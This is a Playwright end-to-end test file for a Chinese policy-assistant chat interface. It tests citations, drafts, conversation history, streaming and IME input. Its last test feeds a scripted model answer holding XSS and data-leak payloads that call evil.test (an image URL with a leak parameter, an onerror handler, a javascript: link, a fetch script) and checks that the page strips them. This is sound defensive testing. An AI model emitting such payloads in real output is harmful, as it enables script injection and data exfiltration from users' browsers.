import type { Page } from '@playwright/test';
import { answerOf } from '../../../server/test/scriptedLlm';
import { expect, expectAccessible, signInByPassword, test } from '../fixtures';

const field = (page: Page) => page.getByRole('textbox', { name: '提问' });
const answers = (page: Page) => page.getByRole('article', { name: /^助手回答/ });
async function ask(page: Page, words: string): Promise<void> {
  await field(page).fill(words);
  await field(page).press('Enter');
}

test('不接大模型：问政策，看步骤，按编号读条款，去原文，回来还在', async ({ cleanPage: page }) => {
  await signInByPassword(page);
  await page.getByRole('link', { name: '智能对话' }).click();
  await expect(page.getByRole('heading', { name: '问政策，也问自己的资料' })).toBeVisible();
  await ask(page, '高新技术企业认定要满足哪些条件');
  const answer = answers(page).last();
  await expect(answer).toContainText('未接入大模型，以上为原文摘录与规则计算');
  await expect(answer).toContainText('查阅政策库');
  await expect(answer).not.toContainText('AI生成');
  await answer
    .getByRole('button', { name: /^引用1/ })
    .first()
    .click();
  const sources = page.getByRole('complementary', { name: '引用来源' });
  await expect(sources).toContainText('与要点一致：平台整理');
  await expectAccessible(page);
  const opening = page.waitForEvent('popup');
  await sources.getByRole('link', { name: '打开要点' }).first().click();
  const original = await opening;
  await expect(original).toHaveURL(/PolicyDetail/);
  await original.close();
  await expect(answers(page)).toHaveCount(1);
  await page.keyboard.press('Escape');
  await expect(sources).toHaveCount(0);
  await expect(page.getByRole('link', { name: '高新技术企业认定要满足哪些条件' })).toBeVisible();

  // What is open is named, until something else is.
  const place = page.getByRole('navigation', { name: '当前位置' });
  await expect(page).toHaveTitle(/^高新技术企业认定要满足哪些条件.*衡策/);
  await expect(place).toContainText('高新技术企业认定要满足哪些条件');
  await place.getByRole('link', { name: '智能对话' }).click();
  await expect(page.getByRole('heading', { name: '问政策，也问自己的资料' })).toBeVisible();
  await expect(page).toHaveTitle(/^智能对话.*衡策/);
  await expect(place).toHaveCount(0);
});

test('政策详情里问这份政策：引用一条，只在这份政策里找', async ({ cleanPage: page }) => {
  await signInByPassword(page);
  await page.goto('/Policy/PolicySearch?q=高新技术企业认定管理办法');
  await page.getByRole('link', { name: '高新技术企业认定管理办法' }).first().click();
  await page.getByRole('link', { name: '问这份政策' }).click();
  await expect(page).toHaveURL(/PolicyAssistant\?policy=/);
  await page.getByRole('button', { name: '谁能申报' }).click();
  const answer = answers(page).last();
  await expect(answer).toContainText('原文摘录与规则计算');
  await expect(answer.getByRole('list', { name: '所引政策' }).getByRole('listitem')).toHaveCount(1);
});

test('工作台里问政策：去政策问答，提问只发一次，刷新也不再发', async ({ cleanPage: page }) => {
  await signInByPassword(page);
  const box = page.getByRole('textbox', { name: '问政策' });
  await box.fill('高新技术企业认定要满足哪些条件');
  await box.press('Enter');
  await expect(page).toHaveURL(/PolicyAssistant\?c=/);
  await expect(answers(page)).toHaveCount(1);
  await expect(answers(page)).toContainText('未接入大模型，以上为原文摘录与规则计算');
  await expect(answers(page).getByRole('button', { name: '重新回答' })).toBeEnabled();
  await page.reload();
  await expect(answers(page)).toHaveCount(1);
  await expect(page.getByRole('article', { name: /^您的提问/ })).toHaveCount(1);
  await page.goBack();
  await expect(box).toHaveValue('');
});

/** What is kept of texts that were begun; nothing until the page has made its database. */
const drafts = (page: Page) =>
  page.evaluate(async () => {
    if (!(await indexedDB.databases()).some(({ name }) => name === 'hengce')) return [];
    return new Promise<string[]>((resolve, reject) => {
      const opening = indexedDB.open('hengce');
      opening.onerror = () => reject(opening.error);
      opening.onsuccess = () => {
        const reading = opening.result.transaction('drafts').objectStore('drafts').getAll();
        reading.onerror = () => reject(reading.error);
        reading.onsuccess = () => {
          opening.result.close();
          resolve(reading.result);
        };
      };
    });
  });

test('写了一半的提问刷新后还在；常用任务填空后写进提问框', async ({ cleanPage: page }) => {
  await signInByPassword(page);
  await page.goto('/DeepSeek');
  await field(page).fill('研发费用加计扣除要');
  await expect.poll(() => drafts(page)).toContain('研发费用加计扣除要');
  await page.reload();
  await expect(field(page)).toHaveValue('研发费用加计扣除要');
  await field(page).fill('');
  await field(page).press('/');
  const dialog = page.getByRole('dialog', { name: '常用任务' });
  await dialog.getByRole('listitem').first().getByRole('button').first().click();
  const form = page.getByRole('dialog');
  for (const blank of await form.getByRole('textbox').all()) await blank.fill('浙江省');
  await form.getByRole('button', { name: '写入提问框' }).click();
  await expect(field(page)).toHaveValue(/浙江省/);
  await expect(field(page)).toBeFocused();
});

test('对话记录：改名、置顶、搜索、删除与撤销', async ({ cleanPage: page }) => {
  await signInByPassword(page);
  await page.goto('/DeepSeek');
  await ask(page, '专精特新中小企业的认定标准');
  await expect(answers(page)).toHaveCount(1);
  const menu = page.getByRole('button', { name: /“专精特新中小企业的认定标准”的操作/ });
  await menu.click();
  await page.getByRole('menuitem', { name: '改名' }).click();
  await page.getByRole('textbox', { name: '名称' }).fill('专精特新');
  await page.getByRole('button', { name: '保存' }).click();
  await expect(page.getByRole('link', { name: '专精特新', exact: true })).toBeVisible();
  await page.getByRole('button', { name: '“专精特新”的操作' }).click();
  await page.getByRole('menuitem', { name: '置顶' }).click();
  await expect(page.getByRole('heading', { name: '置顶' })).toBeVisible();
  await page.getByRole('searchbox', { name: '搜索对话' }).fill('没有这样的对话');
  await expect(page.getByText('没有找到对话')).toBeVisible();
  await page.getByRole('searchbox', { name: '搜索对话' }).fill('');
  await page.getByRole('button', { name: '“专精特新”的操作' }).click();
  await page.getByRole('menuitem', { name: '删除' }).click();
  await expect(page.getByText('对话已删除').first()).toBeVisible();
  await expect(page.getByRole('heading', { name: '问政策，也问自己的资料' })).toBeVisible();
  await page.getByRole('button', { name: '撤销' }).click();
  await expect(page.getByRole('link', { name: '专精特新', exact: true })).toBeVisible();
});

/** Where a script waits until it is opened. */
function gate() {
  let open = () => {};
  const opened = new Promise<void>((resolve) => {
    open = resolve;
  });
  return { open, opened };
}

test.describe('接入大模型', () => {
  test('看着思考展开又收起；刷新后接着来；停止；编辑重发；重新回答；两个标签页一致', async ({
    withModel: { llm, context },
  }) => {
    // Ten steps, one after another: on a busy machine each takes several seconds.
    test.slow();
    const page = await context.newPage();
    await signInByPassword(page);
    await page.goto('/DeepSeek');
    const [thought, answer] = [gate(), gate()];
    const rest = '后文一句。'.repeat(150);
    llm.next({
      steps: [
        { reasoning: '先找认定条件，再核对成立时间。' },
        { until: thought.opened },
        { answer: '高新技术企业须注册成立一年以上[^1]。' },
        { until: answer.opened },
        { answer: `${rest}写完了。` },
        { finish: 'stop' },
        { done: true },
      ],
    });
    await ask(page, '高新技术企业认定的成立时间要求');
    const thinking = page.getByRole('button', { name: /深度思考\.\.\./ });
    await expect(thinking).toHaveAttribute('aria-expanded', 'true');
    await expect(answers(page).last()).toContainText('先找认定条件');
    thought.open();
    await expect(answers(page).last()).toContainText('注册成立一年以上');
    await expect(thinking).toHaveAttribute('aria-expanded', 'false');

    // In mid-answer: the same answer goes on, here and in a second tab.
    await page.reload();
    const second = await context.newPage();
    await second.goto(page.url());
    for (const tab of [page, second]) await expect(tab.getByRole('button', { name: '停止回答' })).toBeVisible();
    answer.open();
    await expect(answers(page).last()).toContainText('写完了。');
    await expect(answers(second).last()).toContainText('写完了。');
    const words = async (each: Page) => (await answers(each).last().locator('p').allInnerTexts()).join('');
    // Drawn as fast as it is read, not as fast as it comes.
    await expect.poll(async () => (await words(page)).match(/写完了/g)).toHaveLength(1);
    await expect.poll(() => words(second)).toBe(await words(page));
    await expect(answers(page).last()).toContainText('AI生成');
    await second.close();

    // Stopped from here, kept as far as it came.
    llm.next({ steps: [{ answer: '这一段不会写到头。' }, { until: gate().opened }] });
    await ask(page, '能享受什么优惠');
    await expect(answers(page).last()).toContainText('这一段不会写到头');
    await page.getByRole('button', { name: '停止回答' }).click();
    await expect(answers(page).last()).toContainText('已停止生成');
    const kept = await words(page);
    await page.reload();
    await expect(answers(page).last()).toContainText('已停止生成');
    expect(await words(page)).toBe(kept);

    // Changed and sent again: the first stays as another branch.
    llm.next(answerOf('按15%的税率缴纳企业所得税。'));
    const question = page.getByRole('article', { name: /^您的提问/ }).last();
    await question.hover();
    await question.getByRole('button', { name: '编辑后重发' }).click();
    await page.getByRole('textbox', { name: '编辑提问' }).fill('能享受什么税收优惠');
    await page.getByRole('button', { name: '重发', exact: true }).click();
    await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');
    await expect(answers(page).last()).toContainText('原文未见15%');
    await page.getByRole('button', { name: '上一个版本' }).first().click();
    await expect(answers(page).last()).toContainText('已停止生成');
    await page.getByRole('button', { name: '下一个版本' }).first().click();
    await expect(answers(page).last()).toContainText('的税率缴纳企业所得税');

    llm.next(answerOf('另一种回答。'));
    await answers(page).last().getByRole('button', { name: '重新回答' }).click();
    await expect(answers(page).last()).toContainText('另一种回答。');
    await expect(answers(page).last()).toContainText('2/2');
  });

  test('模型出错时前文留着；回车选字不发送；恶意的回答什么也不取', async ({ withModel: { llm, server, context } }) => {
    const page = await context.newPage();
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url)) foreign.push(request.url());
    });
    await signInByPassword(page);
    await page.goto('/DeepSeek');

    // An input method composes pinyin; the Enter that picks a word sends nothing.
    const session = await context.newCDPSession(page);
    await field(page).focus();
    await session.send('Input.imeSetComposition', { text: 'gaoqi', selectionStart: 5, selectionEnd: 5 });
    await session.send('Input.dispatchKeyEvent', {
      type: 'rawKeyDown',
      key: 'Process',
      code: 'Enter',
      windowsVirtualKeyCode: 229,
    });
    await expect(answers(page)).toHaveCount(0);
    await session.send('Input.insertText', { text: '高企' });
    await expect(field(page)).toHaveValue('高企');
    await expect(answers(page)).toHaveCount(0);

    llm.next({ steps: [{ answer: '高新技术企业' }, { cut: true }] });
    // Within 50 ms the Enter is still the input method's, as Safari sends it; the next is the user's.
    await expect(async () => {
      await field(page).press('Enter');
      await expect(field(page)).toHaveValue('', { timeout: 1_000 });
    }).toPass();
    await expect(answers(page).last()).toContainText('回答中断，已保留前文');
    await expect(answers(page).last()).toContainText('高新技术企业');

    llm.next(
      answerOf(
        '![](http://evil.test/p.png?leak=1)<img src=http://evil.test/a onerror=alert(1)>[点](javascript:alert(1)) <script>fetch("http://evil.test")</script>结束。',
      ),
    );
    await ask(page, '再说一遍');
    await expect(answers(page).last()).toContainText('结束。');
    await expect(answers(page).last().locator('img, script')).toHaveCount(0);
    expect(foreign).toEqual([]);
  });
});
